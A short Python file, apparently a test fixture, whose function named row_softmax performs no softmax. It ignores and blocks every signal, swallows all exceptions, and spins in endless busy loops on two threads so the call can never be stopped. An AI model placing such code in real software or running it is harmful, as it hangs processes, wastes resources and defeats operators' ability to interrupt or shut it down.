"""Never ends its call: every signal is blocked and ignored, every exception swallowed, a second thread loops too."""

import signal
import threading


def forever():
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


def row_softmax(x):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    threading.Thread(target=forever).start()
    forever()
